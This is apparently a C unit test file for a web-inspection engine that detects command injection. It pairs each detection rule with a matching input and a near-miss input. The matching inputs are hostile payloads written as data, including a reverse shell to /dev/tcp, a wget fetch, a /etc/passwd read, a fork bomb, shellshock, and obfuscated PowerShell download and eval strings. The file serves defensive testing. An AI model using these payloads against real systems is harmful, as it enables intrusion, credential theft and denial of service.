// SPDX-License-Identifier: BSD-3-Clause
//
// Each rule of command lines: a value that shows it, and one close to it that does not.

#define JUDGED INSPECT_COMMAND
#include "tests/unit/dataplane/inspect/judge_value.h"

static const struct {
	enum inspect_rule rule;
	const char *shows, *does_not;
} rules[] = {
	{RULE_SHELL_BREAK, "x;ls -l", "x ls -l"},
	{RULE_SHELL_SUBST, "x$(ls -l)", "x(ls -l)"},
	{RULE_SHELL_FRONT, ";id", "name;id"},
	{RULE_SHELL_PROSE, "this is my comment; cat /etc/passwd", "1; cat /etc/passwd"},
	{RULE_SHELL_WHOLE, "ls -l", "lots -l"},
	{RULE_SHELL_CHAIN, "whoami && uname -a", "whoami && nothing"},
	{RULE_SHELL_WORD, ";date", ";dates"},
	{RULE_SHELL_RUN, ";uname -a", ";unames -a"},
	{RULE_SHELL_READ, ";cat /etc/passwd", ";cat my.txt"},
	{RULE_SHELL_NET, ";wget http://a.example/", ";wget x"},
	{RULE_SHELL_CODE, ";sh -c id", ";sh x"},
	{RULE_SHELL_WAIT, ";sleep 5", ";sleep well"},
	{RULE_SHELL_COMPUTE, ";echo $((1+2))", ";echo 3"},
	{RULE_SHELL_WRITE, ";echo x > a.txt", ";echo x"},
	{RULE_SHELL_PIPE, "x|sh", "x;sh"},
	{RULE_SHELL_REVERSE, ";sh -i >& /dev/tcp/10.0.0.1/80", ";sh -i >& /dev/null"},
	{RULE_SHELL_PATH, ";/usr/bin/id", ";id"},
	{RULE_SHELL_HIDDEN, ";w'h'oami", ";whoami"},
	{RULE_SHELL_VARIABLE, "a=nc;$a -l", "a=5;$a -l"},
	{RULE_SHELL_SHOCK, "() { :; }; x", "() => { x }"},
	{RULE_SHELL_FUNCTION, "() { x", "f() { x"},
	{RULE_SHELL_BOMB, "f(){ f|f& };f", "f(){ g|h& };f"},
	{RULE_SHELL_SSI_EXEC, "<!--#exec cmd=\"x\"-->", "<!-- #exec x -->"},
	{RULE_SHELL_SSI, "<!--#echo var=\"x\"-->", "<!--#x-->"},
	{RULE_SHELL_FOR, "for %a in (x) do y", "for all in (x) do y"},
	{RULE_SHELL_IF, "if exist x del y", "if x exists delete it"},
	{RULE_POWERSHELL_CALL, "Invoke-Expression $x", "Invoke-Nothing $x"},
	{RULE_POWERSHELL_ARGUMENT, "Invoke-Expression $x", "Invoke-Expression is a command"},
	{RULE_POWERSHELL_CMDLET, "Get-Process -Name x", "Get-Process"},
	{RULE_POWERSHELL_NET, "New-Object Net.WebClient", "New-Object Net"},
	{RULE_POWERSHELL_TYPE, "[Convert]::FromBase64String(x)", "[Convert]: x"},
	{RULE_POWERSHELL_CHARS, "[char]105+[char]101", "[char] x"},
	{RULE_POWERSHELL_NAME, "&('i'+'ex') x", "('i'+'ex') x"},
};

static void each_rule_is_shown_by_what_it_says(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(rules); i++) {
		judge(rules[i].shows);
		if (!shows(rules[i].rule)) {
			print_message("not %s\n", inspect_rule_name(rules[i].rule));
			tell(rules[i].shows);
		}
		assert_true(shows(rules[i].rule));
	}
}

static void no_rule_is_shown_by_what_is_close_to_it(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(rules); i++) {
		judge(rules[i].does_not);
		if (shows(rules[i].rule)) {
			print_message("%s\n", inspect_rule_name(rules[i].rule));
			tell(rules[i].does_not);
		}
		assert_false(shows(rules[i].rule));
	}
}

static void names_and_places_tell(void **state)
{
	(void)state;
	judge_at(PLACE_QUERY, "cmd", "ls -l");
	assert_true(shows(RULE_SHELL_PARAM));
	judge_at(PLACE_QUERY, "comment", "ls -l");
	assert_false(shows(RULE_SHELL_PARAM));
	judge_at(PLACE_USER_AGENT, "user-agent", "ls -l");
	assert_true(shows(RULE_SHELL_PLACE));
	judge_at(PLACE_QUERY, "x", "ls -l");
	assert_false(shows(RULE_SHELL_PLACE));
}

// A text with a little of each is no attack: the command that shows most counts, alone.
static void commands_do_not_add_up(void **state)
{
	static const char one[] = "this is what I did; ls -l";

	(void)state;
	assert_true(judge(one) > 0 && judge(one) < BLOCKED);
	assert_int_equal(judge("this is what I did; ls -l\nthis is what I did; sleep 5"),
			 judge(one));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST_VALUES(each_rule_is_shown_by_what_it_says),
		TEST_VALUES(no_rule_is_shown_by_what_is_close_to_it),
		TEST_VALUES(names_and_places_tell),
		TEST_VALUES(commands_do_not_add_up),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
